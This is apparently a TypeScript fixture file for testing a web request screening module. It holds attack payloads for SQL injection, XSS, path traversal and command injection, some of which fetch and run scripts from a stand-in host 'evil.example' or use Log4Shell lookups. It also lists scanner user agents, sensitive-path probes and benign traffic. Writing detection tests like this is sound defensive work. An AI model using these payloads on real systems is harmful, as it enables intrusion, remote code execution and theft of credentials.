// Requests for the screening tests: attacks of each category (each in several encodings) and
// ordinary traffic that must pass without a single finding.
import type { ScreenedRequest, ThreatCategory } from '../../../src/security/types.js';

export function request(parts: Partial<ScreenedRequest> = {}): ScreenedRequest {
  return {
    method: 'GET',
    path: '/',
    query: '',
    headers: {},
    remoteAddress: '203.0.113.7',
    ...parts,
  };
}

const hex = (c: number) => `%${c.toString(16).toUpperCase().padStart(2, '0')}`;

/** Every byte of the UTF-8 text percent-encoded, as an evasive client would. */
export function encodeAll(text: string, lower = false): string {
  const out = [...Buffer.from(text, 'utf8')].map(hex).join('');
  return lower ? out.toLowerCase() : out;
}

/** The ways a payload reaches a query value. */
export const ENCODINGS: Record<string, (payload: string) => string> = {
  'form (+ for spaces)': (p) => encodeURIComponent(p).replace(/%20/g, '+'),
  percent: (p) => encodeURIComponent(p),
  'every byte, lower-case hex': (p) => encodeAll(p, true),
  'double-encoded': (p) => encodeURIComponent(encodeURIComponent(p)),
  'upper case': (p) => encodeURIComponent(p.toUpperCase()),
};

export const ATTACKS: Record<
  Exclude<
    ThreatCategory,
    | 'scanner'
    | 'sensitive-path'
    | 'malformed-request'
    | 'auth-burst'
    | 'brute-force'
    | 'password-spraying'
    | 'credential-stuffing'
  >,
  string[]
> = {
  'sql-injection': [
    "' or 1=1--",
    "' OR '1'='1",
    '" or ""="',
    "admin'--",
    "1' AND 1=2 UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT NULL,NULL,NULL',
    '1/**/UNION/**/SELECT/**/1,2',
    '1 /*!50000UNION*/ /*!50000SELECT*/ 1',
    '1; DROP TABLE users',
    "1'; exec xp_cmdshell('dir')--",
    '1 AND SLEEP(5)',
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
    "1; WAITFOR DELAY '0:0:5'--",
    '1 OR BENCHMARK(5000000,MD5(1))',
    "' AND extractvalue(1,concat(0x7e,version()))--",
    '1 UNION SELECT table_name FROM information_schema.tables',
    "') or ('a'='a",
    '1 or 1=1',
    "';select pg_sleep(5)--",
    "' || '1'='1",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(document.domain)>',
    '<iframe src=javascript:alert(1)>',
    '" onmouseover="alert(1)',
    'javascript:alert(document.cookie)',
    'java\tscript:alert(1)',
    '<body onload=prompt(1)>',
    "'><script>confirm`1`</script>",
    '<details open ontoggle=alert(1)>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/passwd',
    '/proc/self/environ',
    'php://filter/convert.base64-encode/resource=index.php',
    'file:///etc/shadow',
    '..;/WEB-INF/web.xml',
    'C:\\boot.ini',
  ],
  'command-injection': [
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    '`uname -a`',
    '$(curl http://evil.example/x.sh|sh)',
    '127.0.0.1; ping -c 5 evil.example',
    'x || wget http://evil.example/a',
    '; /bin/bash -i',
    'cmd.exe /c dir',
    `\${jndi:ldap://evil.example/a}`,
    `\${\${lower:j}ndi:ldap://evil.example/a}`,
    "() { :; }; /bin/bash -c 'id'",
    'a\ncat /etc/hosts',
  ],
};

export const SCANNER_AGENTS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 zgrab/0.x',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0-dev',
  'feroxbuster/2.10.4',
  'Wfuzz/3.1.0',
];

/** Probes for sensitive paths, and the rule each should trip. */
export const PROBES: [path: string, rule: string][] = [
  ['/.env', 'probe.dotenv'],
  ['/.env.production', 'probe.dotenv'],
  ['/app/.env.local', 'probe.dotenv'],
  ['/%2eenv', 'probe.dotenv'],
  ['/.ENV', 'probe.dotenv'],
  ['/.git/config', 'probe.vcs'],
  ['/.git%2fHEAD', 'probe.vcs'],
  ['/.svn/entries', 'probe.vcs'],
  ['/wp-admin/', 'probe.wordpress'],
  ['/wp-login.php', 'probe.wordpress'],
  ['/blog/xmlrpc.php', 'probe.wordpress'],
  ['/phpmyadmin/index.php', 'probe.db-admin'],
  ['/phpMyAdmin/', 'probe.db-admin'],
  ['/pma/', 'probe.db-admin'],
  ['/.aws/credentials', 'probe.cloud-credentials'],
  ['/.ssh/id_rsa', 'probe.cloud-credentials'],
  ['/server-status', 'probe.server-status'],
  ['/actuator/env', 'probe.actuator'],
  ['/manage/actuator/heapdump', 'probe.actuator'],
  ['/.htaccess', 'probe.config-file'],
  ['/web.config', 'probe.config-file'],
  ['/.DS_Store', 'probe.config-file'],
  ['/cgi-bin/test.cgi', 'probe.config-file'],
  ['/backup.sql', 'probe.backup-file'],
  ['/index.php.bak', 'probe.backup-file'],
  ['/config.js~', 'probe.backup-file'],
];

/** Malformed requests, and the rule each should trip. */
export const MALFORMED: [parts: Partial<ScreenedRequest>, rule: string][] = [
  [{ path: '/a%zzb' }, 'malformed.percent-encoding'],
  [{ query: 'q=100%' }, 'malformed.percent-encoding'],
  [{ path: '/%u002e%u002e/secret' }, 'malformed.percent-u'],
  [{ path: '/%c0%ae%c0%ae/%c0%ae%c0%ae/secret' }, 'malformed.overlong-utf8'],
  [{ query: 'q=%ff%fe' }, 'malformed.invalid-utf8'],
  [{ query: 'q=%2525252e' }, 'malformed.multiple-encoding'],
  [{ path: '/image.php%00.jpg' }, 'malformed.null-byte'],
  [{ query: 'q=a%01b' }, 'malformed.control-chars'],
  [{ query: 'q=x%0d%0aSet-Cookie:%20admin=1' }, 'malformed.crlf-injection'],
  [{ query: 'lang=en%0D%0AContent-Length:%200' }, 'malformed.crlf-injection'],
];

/** Real browsers' and tools' user agents. */
export const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1',
  'curl/8.5.0',
  'PostmanRuntime/7.37.3',
  'python-requests/2.31.0',
  'okhttp/4.12.0',
  'Go-http-client/2.0',
  'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
];

const LONG_COOKIE = [
  '_ga=GA1.2.1234567890.1699999999',
  '_gid=GA1.2.987654321.1700000000',
  '_fbp=fb.1.1700000000123.1234567890',
  'session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  'cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22A-1%22%2C%22qty%22%3A2%7D%5D%2C%22coupon%22%3Anull%7D',
  'consent=%7B%22ads%22%3Afalse%2C%22analytics%22%3Atrue%7D',
  'theme=dark',
  'locale=en-US',
  'csrftoken=Zq3kVvB9wXr7T2mN8pLs4YdF6hJ1cA0e',
  `recently_viewed=${Array.from({ length: 40 }, (_, i) => `sku-${1000 + i}`).join('|')}`,
  'AWSALB=Q2hhbmdlZCBmb3IgdGVzdGluZyBwdXJwb3Nlcw==/abc+def/ghi==',
].join('; ');

/** Ordinary requests: each must produce no finding at all. */
export const ORDINARY: Partial<ScreenedRequest>[] = [
  { path: '/' },
  { path: '/index.html' },
  { path: '/products/shoes/running-42' },
  { path: '/api/v1/users/12345/orders', query: 'status=shipped&page=2&per_page=50' },
  { path: '/blog/2024/05/how-to-bake-bread' },
  { path: '/static/js/main.3f9a2c1b.js' },
  { path: '/images/logo@2x.png' },
  { path: '/wiki/C%2B%2B' },
  { path: '/files/report%20Q1%202024.pdf' },
  { path: '/caf%C3%A9/menu' },
  { path: '/%E6%97%A5%E6%9C%AC%E8%AA%9E/%E3%83%9A%E3%83%BC%E3%82%B8' },
  { path: '/.well-known/acme-challenge/3xK9aQ-zT' },
  { path: '/api/graphql' },
  { path: '/favicon.ico' },
  { path: '/robots.txt' },
  { path: '/en-US/docs/Web/JavaScript/Reference/Statements/for...of' },
  { path: '/authors/o%27reilly' },
  { path: '/v2/items;jsessionid=A1B2C3D4' },
  { path: '/search', query: "q=O'Reilly+books" },
  { path: '/search', query: 'q=O%27Reilly+books' },
  { path: '/search', query: "q=rock+'n'+roll" },
  { path: '/search', query: "q=don't+stop+believin'" },
  { path: '/search', query: "q=tom's+diner+or+rosanna" },
  { path: '/search', query: 'q=it%27s+5+o%27clock+somewhere' },
  { path: '/search', query: "q=L'Or%C3%A9al+and+Maybelline" },
  { path: '/search', query: 'q=fish+%26+chips' },
  { path: '/search', query: 'q=C%2B%2B+tutorial' },
  { path: '/search', query: 'q=select+a+sofa+for+a+small+room' },
  { path: '/search', query: 'q=union+station+chicago+to+o%27hare' },
  { path: '/search', query: 'q=how+to+sleep+better' },
  { path: '/search', query: 'q=drop+shipping+business' },
  { path: '/search', query: 'q=update+my+address' },
  { path: '/search', query: 'q=cat+food+for+kittens' },
  { path: '/search', query: 'q=dogs%3B+cat+toys' },
  { path: '/search', query: 'q=A+%7C+B+testing' },
  { path: '/search', query: 'q=and+or+not+logic+gates' },
  { path: '/search', query: 'q=1+or+2+bedrooms' },
  { path: '/search', query: 'q=100%25+cotton+t-shirt' },
  { path: '/search', query: 'q=script+writing+class' },
  { path: '/search', query: 'q=javascript+tutorial+for+beginners' },
  { path: '/search', query: 'q=on+sale+now' },
  { path: '/search', query: 'q=%22exact+phrase%22+or+%22other+phrase%22' },
  { path: '/search', query: 'q=price+%3C+100' },
  { path: '/search', query: 'q=I+%3C3+NY' },
  { path: '/search', query: 'q=5%2711%22+height' },
  { path: '/search', query: 'q=married+at+first+sight' },
  { path: '/search', query: 'q=the+-+dash+--+double' },
  { path: '/search', query: 'q=%23hashtag+%40mention' },
  { path: '/search', query: 'q=%E4%B8%AD%E6%96%87%E6%90%9C%E7%B4%A2' },
  { path: '/search', query: 'q=stra%C3%9Fe+%C3%BCber+caf%C3%A9' },
  {
    path: '/api/items',
    query:
      'filter=%7B%22color%22%3A%22red%22%2C%22size%22%3A%5B%22m%22%2C%22l%22%5D%2C%22or%22%3A1%7D&sort=-created_at',
  },
  {
    path: '/api/items',
    query: 'filter={"user":{"name":"O\'Reilly","tags":["a","b"]},"and":[1,2]}',
  },
  { path: '/api/users', query: 'fields=id,name,email&ids=1,2,3&expand=orders.items' },
  { path: '/login', query: 'redirect=https%3A%2F%2Fexample.com%2Faccount%3Ftab%3Dorders' },
  { path: '/login', query: 'next=/account/settings' },
  { path: '/', query: 'utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024' },
  { path: '/calendar', query: 'date=2024-05-01T10:00:00Z&tz=Europe%2FParis' },
  { path: '/invite', query: 'email=jane.doe%40example.com&role=admin' },
  { path: '/api/stock', query: 'range=10-20&expr=a%3E%3Db' },
  { path: '/jsonp', query: 'callback=jQuery36001234_1699999999' },
  { path: '/maps', query: 'll=48.8566,2.3522&z=12' },
  { path: '/share', query: 'text=Hello%0AWorld%0A%0ASecond+line' },
  { path: '/track', query: 'event=click&props=%7B%22button%22%3A%22buy%22%7D' },
  { path: '/download', query: 'file=reports/2024/q1.pdf' },
  { path: '/compare', query: 'a=iphone+15&b=pixel+8&c=galaxy+s24' },
  { path: '/search', query: 'q=how+to+use+the+%7C+pipe+in+bash' },
  { path: '/search', query: 'q=tea%3B+select+your+flavour' },
  { path: '/search', query: 'q=email+me+at+jane%40example.com' },
  ...USER_AGENTS.map((agent) => ({
    path: '/',
    headers: { 'user-agent': agent, accept: 'text/html,application/xhtml+xml,*/*;q=0.8' },
  })),
  {
    path: '/cart',
    headers: {
      'user-agent': USER_AGENTS[0]!,
      referer: 'https://shop.example.com/products?category=shoes&sort=price&page=2#reviews',
      cookie: LONG_COOKIE,
      'x-forwarded-for': '198.51.100.23, 10.0.0.2',
      accept:
        'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
      'accept-language': 'en-US,en;q=0.9,fr-FR;q=0.8,fr;q=0.7',
      'accept-encoding': 'gzip, deflate, br, zstd',
      'cache-control': 'max-age=0',
      'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
      'sec-ch-ua-platform': '"Windows"',
      'sec-fetch-site': 'same-origin',
      'upgrade-insecure-requests': '1',
    },
  },
  {
    path: '/',
    headers: {
      referer: 'https://www.google.com/',
      'x-forwarded-for': '2001:db8:85a3::8a2e:370:7334, 203.0.113.9',
    },
  },
];
